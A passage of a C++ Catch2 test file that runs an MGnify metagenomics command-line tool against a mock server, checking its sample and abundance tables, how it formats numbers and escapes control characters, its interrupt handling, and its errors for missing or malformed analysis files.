// The research tables through the real binary against the mock:
// `samples-table` (v1 and v2; tsv, csv, json) and `abundance-table` (v1 and
// v2; tsv and BIOM json), and what happens when an analysis's file is missing
// or malformed.

#include <algorithm>
#include <catch2/catch.hpp>
#include <cstddef>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <optional>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "cli/cli_runner.hpp"
#include "mgnify/tables/table.hpp"
#include "mock/files/files.hpp"
#include "mock/files/summaries.hpp"
#include "mock/mock_server.hpp"
#include "mock/v1/data.hpp"
#include "mock/v1/downloads.hpp"
#include "mock/v2/v2_mock.hpp"
#include "skip.hpp"
#include "support/all_services.hpp"
#include "tables/biom_readers.hpp"

using nlohmann::json;
namespace fs = std::filesystem;
namespace v1data = mgnify::mock::v1data;
namespace v2data = mgnify::mock::v2data;

namespace {

mgnify::mock::MockServer& tables_mock() {
  static mgnify::mock::MockServer& server =
      mgnify::test::start_all_services(mgnify::test::WithFiles::yes);
  return server;
}

mgnify::test::cli::Run run_tables_cli(const std::vector<std::string>& args) {
  std::vector<std::string> full = {"--rate-limit", "0", "--retries", "1"};
  full.insert(full.end(), args.begin(), args.end());
  const std::vector<std::string> env = {"MGNIFY_API_V1_URL=" + tables_mock().v1_url(),
                                        "MGNIFY_API_V2_URL=" + tables_mock().v2_url()};
  auto run = mgnify::test::cli::run_piped(MGNIFY_CLI_PATH, full, env, std::chrono::seconds(120));
  REQUIRE_FALSE(run.timed_out);
  return run;
}

/// A fresh directory, removed afterwards.
class TablesTempDir {
 public:
  TablesTempDir() {
    std::string pattern = (fs::temp_directory_path() / "mgnify-tables-XXXXXX").string();
    if (!::mkdtemp(pattern.data())) throw std::runtime_error("mkdtemp failed");
    path_ = pattern;
  }
  ~TablesTempDir() {
    std::error_code ignored;
    fs::remove_all(path_, ignored);
  }
  const fs::path& path() const { return path_; }

 private:
  fs::path path_;
};

std::vector<std::vector<std::string>> tsv_rows(const std::string& text, char separator = '\t') {
  std::vector<std::vector<std::string>> rows;
  std::istringstream in(text);
  std::string line;
  while (std::getline(in, line)) {
    std::vector<std::string> cells;
    std::size_t start = 0;
    for (;;) {
      const auto at = line.find(separator, start);
      cells.push_back(line.substr(start, at == std::string::npos ? std::string::npos : at - start));
      if (at == std::string::npos) break;
      start = at + 1;
    }
    rows.push_back(std::move(cells));
  }
  return rows;
}

std::size_t index_of(const std::vector<std::string>& header, const std::string& name) {
  const auto it = std::find(header.begin(), header.end(), name);
  REQUIRE(it != header.end());
  return static_cast<std::size_t>(it - header.begin());
}

/// The expected matrix: feature -> analysis -> count, from the mock's own record of its files.
using Expected = std::map<std::string, std::map<std::string, std::uint64_t>>;

/// The v2 study's analyses of pipeline V6 and their SILVA-SSU files (URL path).
std::map<std::string, std::string> v2_ssu_files(const std::string& study) {
  std::map<std::string, std::string> out;
  const auto& d = v2data::dataset();
  for (const auto& s : d.studies) {
    if (s.accession != study) continue;
    for (int a : s.analyses) {
      const json detail = json::parse(v2data::analysis_detail(a));
      if (detail.at("pipeline_version") != "V6") continue;
      for (const auto& dl : detail.at("downloads")) {
        const std::string alias = dl.at("alias");
        if (alias.size() > 17 && alias.compare(alias.size() - 17, 17, "_SILVA-SSU.tsv.gz") == 0)
          out[detail.at("accession")] = v2data::url_path(dl.at("url"));
      }
    }
  }
  return out;
}

Expected expected_from(const std::map<std::string, std::pair<std::string, std::uint64_t>>& files) {
  Expected expected;
  for (const auto& [analysis, file] : files) {
    for (const auto& f : mgnify::mock::summary_features(file.first, file.second))
      expected[f.feature][analysis] = f.count;
  }
  return expected;
}

void check_matrix_tsv(const std::string& out, const Expected& expected,
                      const std::vector<std::string>& analyses, const std::string& feature_column) {
  const auto rows = tsv_rows(out);
  REQUIRE(rows.size() == expected.size() + 1);
  const auto& header = rows[0];
  CHECK(header[0] == feature_column);
  CHECK(std::vector<std::string>(header.end() - static_cast<long>(analyses.size()), header.end()) ==
        analyses);
  for (std::size_t r = 1; r < rows.size(); ++r) {
    REQUIRE(rows[r].size() == header.size());
    const auto feature = expected.find(rows[r][0]);
    REQUIRE(feature != expected.end());
    for (const auto& analysis : analyses) {
      const auto it = feature->second.find(analysis);
      const std::uint64_t want = it == feature->second.end() ? 0 : it->second;
      CHECK(rows[r][index_of(header, analysis)] == std::to_string(want));
    }
  }
}

}  // namespace

TEST_CASE("samples-table on v2: one row per sample, core columns, then metadata keys",
          "[cli][tables][samples]") {
  const auto& d = v2data::dataset();
  const auto& study = d.studies[0];
  const auto run = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
  CHECK(run.code == 0);
  CHECK(run.err.empty());
  const auto rows = tsv_rows(run.out);
  REQUIRE(rows.size() == study.samples.size() + 1);
  // The v2 mock's metadata: sample_title, lat, lon and collection_date repeat core
  // columns; temperature is the one key of its own.
  CHECK(rows[0] == std::vector<std::string>{"accession", "ena_accessions", "sample_title", "biome",
                                            "biome_name", "lat", "lon", "collection_date",
                                            "updated_at", "temperature"});
  std::map<std::string, const v2data::SampleRec*> by_accession;
  for (int s : study.samples)
    by_accession[d.samples[static_cast<std::size_t>(s)].accession] =
        &d.samples[static_cast<std::size_t>(s)];
  std::set<std::string> seen;
  for (std::size_t r = 1; r < rows.size(); ++r) {
    const auto it = by_accession.find(rows[r][0]);
    REQUIRE(it != by_accession.end());
    seen.insert(rows[r][0]);
    const json& sample = it->second->with_metadata;
    CHECK(rows[r][5] == sample["metadata"]["lat"].get<std::string>());
    CHECK(rows[r][9] == sample["metadata"]["temperature"].get<std::string>());
    CHECK(rows[r][3] ==
          (sample["biome"].is_null() ? "" : sample["biome"]["lineage"].get<std::string>()));
    CHECK(rows[r][2] ==
          (sample["sample_title"].is_null() ? "" : sample["sample_title"].get<std::string>()));
  }
  CHECK(seen.size() == study.samples.size());

  // The study's ENA accession names the same study.
  const auto by_ena =
      run_tables_cli({"samples-table", study.ena_accessions.at(1), "--format", "tsv"});
  CHECK(by_ena.code == 0);
  CHECK(by_ena.out == run.out);

  // JSON: the same rows as objects, absent values as null.
  const auto as_json = run_tables_cli({"samples-table", study.accession, "--format", "json"});
  CHECK(as_json.code == 0);
  const json parsed = json::parse(as_json.out);
  REQUIRE(parsed.size() == study.samples.size());
  for (const auto& row : parsed) {
    const json& sample = by_accession.at(row.at("accession").get<std::string>())->with_metadata;
    CHECK(row.at("biome") ==
          (sample["biome"].is_null() ? json(nullptr) : sample["biome"]["lineage"]));
    CHECK(row.at("temperature") == sample["metadata"]["temperature"]);
  }
}

TEST_CASE("samples-table of several studies: the study first, one row per sample of each",
          "[cli][tables][samples]") {
  const auto& d = v2data::dataset();
  const auto& first = d.studies[0];
  const auto& second = d.studies[1];
  TablesTempDir dir;
  const fs::path list = dir.path() / "studies.txt";
  std::ofstream(list) << "# two studies\n" << second.accession << "\n\n";
  const auto run = run_tables_cli(
      {"samples-table", first.accession, "--studies-file", list.string(), "--format", "tsv"});
  CHECK(run.code == 0);
  CHECK(run.err.empty());
  const auto rows = tsv_rows(run.out);
  REQUIRE(rows.size() == first.samples.size() + second.samples.size() + 1);
  const auto one =
      tsv_rows(run_tables_cli({"samples-table", first.accession, "--format", "tsv"}).out);
  REQUIRE_FALSE(one.empty());
  CHECK(rows[0].front() == "study_accession");
  // The first study's columns and cells come first, as its own table has them.
  const auto after_study = [&one](const std::vector<std::string>& row) {
    REQUIRE(row.size() > one[0].size());
    return std::vector<std::string>(row.begin() + 1,
                                    row.begin() + 1 + static_cast<std::ptrdiff_t>(one[0].size()));
  };
  CHECK(after_study(rows[0]) == one[0]);
  for (std::size_t r = 1; r < rows.size(); ++r) {
    const bool of_first = r <= first.samples.size();
    CHECK(rows[r][0] == (of_first ? first.accession : second.accession));
    if (of_first) CHECK(after_study(rows[r]) == one[r]);
  }

  // A positional study and --study together: both, in that order.
  const auto mixed = run_tables_cli(
      {"samples-table", first.accession, "--study", second.accession, "--format", "tsv"});
  CHECK(mixed.code == 0);
  CHECK(tsv_rows(mixed.out) == rows);

  // --study once gives the study column too; JSON keeps it as the first key.
  const auto listed =
      run_tables_cli({"samples-table", "--study", second.accession, "--format", "json"});
  CHECK(listed.code == 0);
  const auto parsed = nlohmann::ordered_json::parse(listed.out);
  REQUIRE(parsed.size() == second.samples.size());
  CHECK(parsed.at(0).begin().key() == "study_accession");
  CHECK(parsed.at(0).at("study_accession") == second.accession);

  // A typo in the list is refused before any request.
  const auto typo = run_tables_cli({"samples-table", first.accession, "--study", "MGYX1"});
  CHECK(typo.code == 2);
  CHECK(typo.out.empty());
  const auto none = run_tables_cli({"samples-table"});
  CHECK(none.code == 2);
}

TEST_CASE("samples-table on v1: units in the header, csv quoting", "[cli][tables][samples]") {
  const std::size_t first = v1data::study_sample_begin(1);
  const std::size_t last = v1data::study_sample_end(1);
  const auto run = run_tables_cli(
      {"samples-table", "--api", "v1", v1data::study_accession(1), "--format", "csv"});
  CHECK(run.code == 0);
  CHECK(run.err.empty());
  std::istringstream in(run.out);
  std::string header;
  std::getline(in, header);
  CHECK(header.rfind("accession,sample-name,sample-alias,", 0) == 0);
  // A key only some samples carry (every 7th, in the mock) comes after the
  // keys of the first sample, where it is first met.
  bool some_have_host_site = false;
  for (std::size_t s = first; s < last; ++s) some_have_host_site |= s % 7 == 3;
  const std::string metadata_columns =
      ",investigation type,temperature (°C),depth (m),\"geographic location (country and/or "
      "sea,region)\",instrument model" +
      std::string(some_have_host_site ? ",host body site" : "");
  CHECK(header.size() > metadata_columns.size());
  CHECK(header.substr(header.size() - metadata_columns.size()) == metadata_columns);
  std::vector<std::string> lines;
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  REQUIRE(lines.size() == last - first);
  std::set<std::string> accessions;
  for (const auto& line : lines) accessions.insert(line.substr(0, line.find(',')));
  for (std::size_t s = first; s < last; ++s)
    CHECK(accessions.count(v1data::sample_accession(s)) == 1);

  // TSV: the temperature column holds each sample's value.
  const auto tsv = run_tables_cli(
      {"--format", "tsv", "samples-table", "--api", "v1", v1data::study_accession(1)});
  CHECK(tsv.code == 0);
  const auto rows = tsv_rows(tsv.out);
  REQUIRE(rows.size() == last - first + 1);
  const std::size_t temperature = index_of(rows[0], "temperature (°C)");
  const std::size_t biome = index_of(rows[0], "biome");
  for (std::size_t r = 1; r < rows.size(); ++r) {
    std::size_t s = first;
    while (s < last && v1data::sample_accession(s) != rows[r][0]) ++s;
    REQUIRE(s < last);
    char expected[32];
    std::snprintf(expected, sizeof expected, "%g", v1data::sample_temperature(s));
    CHECK(rows[r][temperature] == expected);
    CHECK(rows[r][biome] == v1data::biomes()[v1data::sample_biome(s)].lineage);
  }
}

TEST_CASE("samples-table: an unknown study fails with exit 3 and prints no table",
          "[cli][tables][samples]") {
  const auto run = run_tables_cli({"samples-table", "MGYS09999999", "--format", "tsv"});
  CHECK(run.code == 3);
  CHECK(run.out.empty());
  CHECK(run.err.rfind("mgnify: ", 0) == 0);
}

TEST_CASE("abundance-table on v2: SSU taxonomy of every V6 analysis, merged",
          "[cli][tables][abundance]") {
  const std::string study = "MGYS00000002";
  const auto files = v2_ssu_files(study);
  REQUIRE(files.size() > 3);
  std::map<std::string, std::pair<std::string, std::uint64_t>> named;
  for (const auto& [analysis, path] : files)
    named[analysis] = {path.substr(path.rfind('/') + 1), mgnify::mock::seed_of("v2" + path)};
  const Expected expected = expected_from(named);

  TablesTempDir dir;
  const std::vector<std::string> args = {
      "abundance-table",   study,      "-p", "V6", "-g", "taxonomies.closed_reference.ssu", "--dir",
      dir.path().string(), "--format", "tsv"};
  const auto run = run_tables_cli(args);
  CHECK(run.code == 0);
  CHECK(run.err.empty());
  std::vector<std::string> analyses;
  {
    const auto header = tsv_rows(run.out).at(0);
    for (const auto& cell : header) {
      if (cell.rfind("MGYA", 0) == 0) analyses.push_back(cell);
    }
  }
  CHECK(std::set<std::string>(analyses.begin(), analyses.end()).size() == files.size());
  check_matrix_tsv(run.out, expected, analyses, "taxonomy");
  CHECK(tsv_rows(run.out)[0][1] == "taxid");

  // A second run finds the files verified on disk and asks for none of them.
  tables_mock().clear_requests();
  const auto again = run_tables_cli(args);
  CHECK(again.code == 0);
  CHECK(again.out == run.out);
  for (const auto& [analysis, path] : files) CHECK(tables_mock().hits(path) == 0);
}

TEST_CASE("abundance-table on v1: GO counts as a BIOM Function table",
          "[cli][tables][abundance][biom]") {
  std::map<std::string, std::pair<std::string, std::uint64_t>> named;
  for (std::size_t s = v1data::study_sample_begin(1); s < v1data::study_sample_end(1); ++s) {
    if (std::string(v1data::analysis_pipeline(s)) != "5.0") continue;
    named[v1data::analysis_accession(s)] = {
        v1data::download_file(v1data::DownloadOwner::analysis, s, 0).alias,
        mgnify::mock::seed_of("v1/analysis/" + std::to_string(s) + "/0")};
  }
  REQUIRE(named.size() == 3);
  const Expected expected = expected_from(named);

  TablesTempDir dir;
  const auto run =
      run_tables_cli({"abundance-table", "--api", "v1", v1data::study_accession(1), "-p", "5.0",
                      "-g", "Functional analysis", "--dir", dir.path().string()});
  CHECK(run.code == 0);
  CHECK(run.err.empty());
  const json biom = json::parse(run.out);
  CHECK(biom.at("format") == "Biological Observation Matrix 1.0.0");
  CHECK(biom.at("type") == "Function table");
  CHECK(biom.at("matrix_type") == "sparse");
  CHECK(biom.at("matrix_element_type") == "int");
  CHECK(biom.at("shape") == json::array({expected.size(), named.size()}));
  std::map<std::string, std::map<std::string, std::uint64_t>> got;
  for (const auto& cell : biom.at("data")) {
    const std::string feature = biom.at("rows").at(cell.at(0).get<std::size_t>()).at("id");
    const std::string analysis = biom.at("columns").at(cell.at(1).get<std::size_t>()).at("id");
    got[feature][analysis] = cell.at(2).get<std::uint64_t>();
  }
  CHECK(got == expected);
  for (const auto& row : biom.at("rows")) {
    CHECK(row.at("metadata").at("term").is_string());
    CHECK(row.at("metadata").at("category").is_string());
  }
  // The downloaded files were verified against the listed SHA256 digests.
  for (const auto& [analysis, file] : named) CHECK(fs::exists(dir.path() / analysis / file.first));
  // Each column names its analysis's sample and run, with the v1 sample's fields.
  for (const auto& column : biom.at("columns")) {
    std::size_t s = v1data::study_sample_begin(1);
    while (s < v1data::study_sample_end(1) && v1data::analysis_accession(s) != column.at("id")) ++s;
    REQUIRE(s < v1data::study_sample_end(1));
    const auto& metadata = column.at("metadata");
    CHECK(metadata.at("analysis_accession") == column.at("id"));
    CHECK(metadata.at("sample_accession") == v1data::sample_accession(s));
    CHECK(metadata.at("study_accession") == v1data::study_accession(1));
    CHECK(metadata.at("biome") == v1data::biomes()[v1data::sample_biome(s)].lineage);
  }
}

TEST_CASE(
    "Ctrl-C during abundance-table's downloads: the progress line ends at the files done, the "
    "summary says the same, exit 130, no table, and a rerun fetches only the rest",
    "[cli][tables][abundance][progress][interrupt]") {
  const std::string study = "MGYS00000002";
  const auto files = v2_ssu_files(study);
  REQUIRE(files.size() > 3);
  TablesTempDir dir;
  const std::vector<std::string> args = {"abundance-table",
                                         study,
                                         "-p",
                                         "V6",
                                         "-g",
                                         "taxonomies.closed_reference.ssu",
                                         "--dir",
                                         dir.path().string(),
                                         "--format",
                                         "tsv",
                                         "--concurrency",
                                         "1"};
  std::vector<std::string> in_terminal = {"--rate-limit", "0", "--retries", "1"};
  in_terminal.insert(in_terminal.end(), args.begin(), args.end());
  tables_mock().clear_faults();
  for (const auto& [analysis, path] : files)
    tables_mock().push_faults(path, mgnify::mock::Fault::slow(std::chrono::milliseconds(1000)), 1);
  tables_mock().clear_requests();
  // Stopped once the first file is done, while the next is on its way.
  const auto tty = mgnify::test::cli::run_in_terminal(
      MGNIFY_CLI_PATH, in_terminal,
      {"MGNIFY_API_V1_URL=" + tables_mock().v1_url(),
       "MGNIFY_API_V2_URL=" + tables_mock().v2_url()},
      std::chrono::seconds(60), std::chrono::milliseconds(0), "download: 1/");
  tables_mock().clear_faults();
  INFO(tty.err);
  REQUIRE_FALSE(tty.timed_out);
  CHECK(tty.code == 130);
  CHECK_THAT(tty.err, !Catch::Contains("taxid"));  // no partial matrix
  const std::regex summary("interrupted: ([0-9]+) done, ([0-9]+) left");
  std::smatch said;
  REQUIRE(std::regex_search(tty.err, said, summary));
  const std::size_t done = std::stoul(said[1]);
  CHECK(done >= 1);
  CHECK(done < files.size());
  CHECK(done + std::stoul(said[2]) == files.size());
  // The last count the progress line drew before the summary.
  const std::string before = tty.err.substr(0, static_cast<std::size_t>(said.position(0)));
  const std::regex drawn("download: ([0-9]+)/([0-9]+) files");
  std::optional<std::size_t> last_drawn;
  for (auto it = std::sregex_iterator(before.begin(), before.end(), drawn);
       it != std::sregex_iterator(); ++it) {
    last_drawn = std::stoul((*it)[1]);
    CHECK(std::stoul((*it)[2]) == files.size());
  }
  REQUIRE(last_drawn);
  CHECK(*last_drawn == done);

  // The files that were done are kept, and a rerun fetches only the others.
  std::size_t kept = 0;
  for (const auto& [analysis, path] : files)
    kept += fs::exists(dir.path() / analysis / path.substr(path.rfind('/') + 1)) ? 1 : 0;
  CHECK(kept == done);
  tables_mock().clear_requests();
  const auto rerun = run_tables_cli(args);
  INFO(rerun.err);
  CHECK(rerun.code == 0);
  // The analyses of one run share its file's URL: requests are counted per URL.
  std::set<std::string> paths;
  for (const auto& [analysis, path] : files) paths.insert(path);
  std::size_t fetched = 0;
  for (const auto& path : paths) fetched += tables_mock().hits(path);
  CHECK(fetched == files.size() - done);
}

TEST_CASE("abundance-table: a missing or malformed analysis file fails naming the analysis",
          "[cli][tables][abundance]") {
  const std::string study = "MGYS00000002";
  const auto files = v2_ssu_files(study);
  REQUIRE(files.size() > 3);
  const auto& [missing, missing_path] = *files.begin();

  TablesTempDir dir;
  std::vector<std::string> args = {
      "abundance-table",   study,      "-p", "V6", "-g", "taxonomies.closed_reference.ssu", "--dir",
      dir.path().string(), "--format", "tsv"};
  tables_mock().push_fault(missing_path, mgnify::mock::Fault::status_only(404));
  const auto run = run_tables_cli(args);
  CHECK(run.code == 3);
  CHECK(run.out.empty());  // no matrix with a column silently missing
  CHECK_THAT(run.err, Catch::Contains("mgnify: " + missing + ": "));

  // --skip-failed: the matrix of the others, the gap named on stderr and in the exit code.
  args.push_back("--skip-failed");
  tables_mock().push_fault(missing_path, mgnify::mock::Fault::status_only(404));
  const auto skipped = run_tables_cli(args);
  CHECK(skipped.code == 3);
  CHECK_THAT(skipped.err, Catch::Contains("mgnify: skipped " + missing + ": "));
  const auto header = tsv_rows(skipped.out).at(0);
  CHECK(std::find(header.begin(), header.end(), missing) == header.end());
  CHECK(header.size() == 2 + files.size() - 1);

  // A file on disk of the listed size but not a summary table: kept as
  // present (v2 lists no digest), then refused by the parser.
  const auto& [broken, broken_path] = *std::next(files.begin());
  const std::string alias = broken_path.substr(broken_path.rfind('/') + 1);
  const std::string real = v2data::file_bytes(broken_path);
  {
    std::ofstream garbage(dir.path() / broken / alias, std::ios::binary | std::ios::trunc);
    garbage << std::string(real.size(), 'x');
  }
  args.pop_back();
  const auto malformed = run_tables_cli(args);
  CHECK(malformed.code == 1);
  CHECK(malformed.out.empty());
  CHECK_THAT(malformed.err, Catch::Contains("mgnify: " + broken + ": ") && Catch::Contains(alias) &&
                                Catch::Contains("line 1"));
}

TEST_CASE("abundance-table: a group with several tables per analysis asks for --match",
          "[cli][tables][abundance]") {
  TablesTempDir dir;
  const auto run = run_tables_cli({"abundance-table", "MGYS00000002", "-p", "V6", "-g",
                                   "taxonomies.closed_reference", "--dir", dir.path().string()});
  CHECK(run.code == 2);
  CHECK(run.out.empty());
  CHECK_THAT(run.err, Catch::Contains("--match") && Catch::Contains("_SILVA-SSU.tsv.gz") &&
                          Catch::Contains("_SILVA-LSU.tsv.gz"));
  const auto matched = run_tables_cli({"abundance-table", "MGYS00000002", "-p", "V6", "-g",
                                       "taxonomies.closed_reference", "--match", "SILVA-LSU",
                                       "--dir", dir.path().string(), "--format", "tsv"});
  CHECK(matched.code == 0);
  CHECK(matched.err.empty());
  CHECK(tsv_rows(matched.out).at(0).at(0) == "taxonomy");
}

TEST_CASE("abundance-table: a group no analysis has fails before any file is fetched, exit 3",
          "[cli][tables][abundance]") {
  TablesTempDir dir;
  tables_mock().clear_requests();
  const auto run = run_tables_cli({"abundance-table", "MGYS00000002", "-p", "V6", "-g",
                                   "taxonomy.ssu", "--dir", dir.path().string()});
  CHECK(run.code == 3);
  CHECK(run.out.empty());
  // One line: what was asked, and the groups -g could name instead.
  CHECK(std::count(run.err.begin(), run.err.end(), '\n') == 1);
  CHECK_THAT(run.err, Catch::StartsWith("mgnify: 0 files matched -p V6 -g taxonomy.ssu for "
                                        "MGYS00000002;") &&
                          Catch::Contains("groups available: ") &&
                          Catch::Contains("taxonomies.closed_reference.ssu"));
  std::size_t analysis_requests = 0;
  for (const auto& r : tables_mock().requests()) {
    INFO(r.target);
    CHECK(r.target.find("/pub/databases/") == std::string::npos);
    if (r.target.find("/analyses/MGYA") != std::string::npos) ++analysis_requests;
  }
  // A group MGnify does not publish is judged on the first analysis, not after all of them.
  CHECK(analysis_requests == 1);
  CHECK(fs::is_empty(dir.path()));

  // The spellings `downloads -g` takes: a download type, narrowed by --match.
  const auto by_type =
      run_tables_cli({"abundance-table", "MGYS00000002", "-p", "V6", "-g", "taxonomic_analysis",
                      "--match", "SILVA-SSU", "--dir", dir.path().string(), "--format", "tsv"});
  CHECK(by_type.code == 0);
  CHECK(by_type.err.empty());
  const auto by_group = run_tables_cli({"abundance-table", "MGYS00000002", "-p", "V6", "-g",
                                        "taxonomies.closed_reference.ssu", "--dir",
                                        dir.path().string(), "--format", "tsv"});
  CHECK(by_group.code == 0);
  CHECK(by_type.out == by_group.out);
}

TEST_CASE("samples-table: a walk that ends short of the study's count fails and prints nothing",
          "[cli][tables][samples]") {
  const auto& d = v2data::dataset();
  const auto& study = d.studies[2];
  REQUIRE(study.samples.size() > 2);
  // The service promises every sample of the study but sends only the first.
  const json short_page = {
      {"count", study.samples.size()},
      {"items",
       json::array({d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata})}};
  tables_mock().push_fault(
      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/",
      mgnify::mock::Fault::status_only(200, short_page.dump()));
  const auto run = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
  CHECK(run.code == 1);
  CHECK(run.out.empty());
  CHECK_THAT(run.err, Catch::StartsWith("mgnify: "));
}

TEST_CASE("samples-table TSV and CSV carry a cell as it is, quoted; escaped only on a terminal",
          "[cli][tables][samples]") {
  const auto& d = v2data::dataset();
  const auto& study = d.studies[2];
  json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
  const std::string value = "4\t5 \\ \"x\" \x1b[2J end";
  sample["metadata"]["temperature"] = value;
  const json page = {{"count", 1}, {"items", json::array({sample})}};
  const std::string path =
      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/";
  // In a file (here a pipe) the bytes are the value's own, quoted as pandas writes them.
  const std::string quoted = "\"4\t5 \\ \"\"x\"\" \x1b[2J end\"";
  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
  REQUIRE(tsv.code == 0);
  CHECK(tsv.out.find("\t" + quoted) != std::string::npos);
  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
  const auto csv = run_tables_cli({"samples-table", study.accession, "--format", "csv"});
  REQUIRE(csv.code == 0);
  CHECK(csv.out.find("," + quoted) != std::string::npos);

  // On a terminal no control character arrives; the escapes show where they were.
  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
  const auto shown = mgnify::test::cli::run_in_terminal(
      MGNIFY_CLI_PATH,
      {"--rate-limit", "0", "--retries", "1", "samples-table", study.accession, "--format", "tsv"},
      {"MGNIFY_API_V2_URL=" + tables_mock().v2_url()});
  REQUIRE(shown.code == 0);
  CHECK(shown.err.find('\x1b') == std::string::npos);
  CHECK(shown.err.find("4\\t5 \\ \"\"x\"\" \\x1b[2J end") != std::string::npos);
}

TEST_CASE("samples-table JSON keeps the service's types: numbers, booleans, objects",
          "[cli][tables][samples]") {
  const auto& d = v2data::dataset();
  const auto& study = d.studies[2];
  json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
  sample["metadata"]["lat"] = 0;
  sample["metadata"]["ph"] = 7;
  sample["metadata"]["flag"] = true;
  sample["metadata"]["nested"] = {{"a", 1}, {"b", "x"}};
  sample["metadata"]["note"] = "7";
  const json page = {{"count", 1}, {"items", json::array({sample})}};
  const std::string path =
      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/";
  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
  const auto run = run_tables_cli({"samples-table", study.accession, "--format", "json"});
  REQUIRE(run.code == 0);
  const json rows = json::parse(run.out);
  REQUIRE(rows.size() == 1);
  CHECK(rows[0].at("lat") == 0);
  CHECK(rows[0].at("ph") == 7);
  CHECK(rows[0].at("flag") == true);
  CHECK(rows[0].at("nested") == json{{"a", 1}, {"b", "x"}});
  CHECK(rows[0].at("note") == "7");
  CHECK(rows[0].at("accession") == sample.at("accession"));

  // The same values in TSV: numbers and booleans as JSON writes them, objects as compact JSON.
  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page.dump()));
  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
  REQUIRE(tsv.code == 0);
  const auto lines = tsv_rows(tsv.out);
  REQUIRE(lines.size() == 2);
  CHECK(lines[1].at(index_of(lines[0], "ph")) == "7");
  CHECK(lines[1].at(index_of(lines[0], "flag")) == "true");
  CHECK(lines[1].at(index_of(lines[0], "nested")) == R"("{""a"":1,""b"":""x""}")");
}

TEST_CASE("samples-table keeps the text of numbers a double would respell, in every format",
          "[cli][tables][samples][numbers]") {
  const auto& d = v2data::dataset();
  const auto& study = d.studies[2];
  json sample = d.samples[static_cast<std::size_t>(study.samples[0])].with_metadata;
  // Placeholders become the numbers as a service may write them.
  const std::vector<std::pair<std::string, std::string>> sent = {
      {"lat", "51.50"},
      {"ph", "7.50"},
      {"depth", "1e3"},
      {"zero", "-0"},
      {"precise", "0.12345678901234567890"},
      {"big", "123456789012345678901234567890"}};
  for (const auto& [key, text] : sent) sample["metadata"][key] = "@" + key + "@";
  std::string page = json{{"count", 1}, {"items", json::array({sample})}}.dump();
  for (const auto& [key, text] : sent) {
    const std::string placeholder = "\"@" + key + "@\"";
    page.replace(page.find(placeholder), placeholder.size(), text);
  }
  const std::string path =
      std::string(mgnify::mock::kV2Prefix) + "/studies/" + study.accession + "/samples/";
  for (const std::string format : {"json", "ndjson"}) {
    tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
    const auto run = run_tables_cli({"samples-table", study.accession, "--format", format});
    REQUIRE(run.code == 0);
    for (const auto& [key, text] : sent) {
      CAPTURE(format, key);
      CHECK(run.out.find("\"" + key + "\":" + text) != std::string::npos);
    }
    // Still JSON that any reader takes, with the same values.
    const json rows = format == "json" ? json::parse(run.out) : json::array({json::parse(run.out)});
    CHECK(rows.at(0).at("ph") == 7.5);
    CHECK(rows.at(0).at("depth") == 1000.0);
  }
  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
  const auto tsv = run_tables_cli({"samples-table", study.accession, "--format", "tsv"});
  REQUIRE(tsv.code == 0);
  const auto lines = tsv_rows(tsv.out);
  REQUIRE(lines.size() == 2);
  for (const auto& [key, text] : sent) {
    CAPTURE(key);
    CHECK(lines[1].at(index_of(lines[0], key)) == text);
  }
  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
  const auto csv = run_tables_cli({"samples-table", study.accession, "--format", "csv"});
  REQUIRE(csv.code == 0);
  for (const auto& [key, text] : sent) {
    CAPTURE(key);
    CHECK((csv.out.find("," + text + ",") != std::string::npos ||
           csv.out.find("," + text + "\n") != std::string::npos));
  }
}

TEST_CASE("samples-table --api v1 keeps each value's type and the text of its numbers",
          "[cli][tables][samples][numbers]") {
  const std::string study = v1data::study_accession(1);
  const std::string page =
      R"({"data":[{"type":"samples","id":"ERS0000001","attributes":{"accession":"ERS0000001",)"
      R"("latitude":51.50,"longitude":-0,"sample-metadata":[)"
      R"({"key":"ph","value":7.50,"unit":null},{"key":"depth","value":1e3,"unit":"m"},)"
      R"({"key":"count","value":123456789012345678901234567890,"unit":null},)"
      R"({"key":"precise","value":0.12345678901234567890,"unit":null},)"
      R"({"key":"plain","value":12,"unit":null},{"key":"none","value":null,"unit":null},)"
      R"({"key":"text","value":"1.50","unit":null}]},"relationships":{},"links":{"self":"x"}}],)"
      R"("links":{"next":null},"meta":{"pagination":{"page":1,"pages":1,"count":1}}})";
  const std::string path = std::string(mgnify::mock::kV1Prefix) + "/studies/" + study + "/samples";
  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
  const auto run = run_tables_cli({"samples-table", "--api", "v1", study, "--format", "ndjson"});
  tables_mock().clear_faults();
  REQUIRE(run.code == 0);
  for (const std::string cell :
       {R"("latitude":51.50)", R"("longitude":-0)", R"("ph":7.50)", R"x("depth (m)":1e3)x",
        R"("count":123456789012345678901234567890)", R"("precise":0.12345678901234567890)",
        R"("plain":12)", R"("none":null)", R"("text":"1.50")"}) {
    CAPTURE(cell);
    CHECK(run.out.find(cell) != std::string::npos);
  }

  tables_mock().push_fault(path, mgnify::mock::Fault::status_only(200, page));
  const auto tsv = run_tables_cli({"samples-table", "--api", "v1", study, "--format", "tsv"});
  tables_mock().clear_faults();
  REQUIRE(tsv.code == 0);
  const auto lines = tsv_rows(tsv.out);
  REQUIRE(lines.size() == 2);
  const std::vector<std::pair<std::string, std::string>> cells = {
